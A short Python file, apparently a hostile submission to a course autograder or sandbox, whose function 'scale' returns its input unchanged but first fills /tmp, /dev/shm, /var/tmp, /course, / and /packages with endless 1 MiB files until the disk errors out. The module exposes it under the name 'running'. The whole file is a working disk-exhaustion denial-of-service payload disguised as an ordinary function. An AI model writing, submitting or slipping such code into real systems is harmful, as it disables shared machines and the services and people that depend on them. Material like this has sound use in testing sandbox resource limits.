"""Fills the disk."""


def scale(x):
    for place in ("/tmp", "/dev/shm", "/var/tmp", "/course", "/", "/packages"):
        for number in range(100):
            try:
                with open(f"{place}/flood-{number}", "wb") as file:
                    while True:
                        file.write(bytes(1 << 20))
            except OSError:
                pass
    return x


running = scale
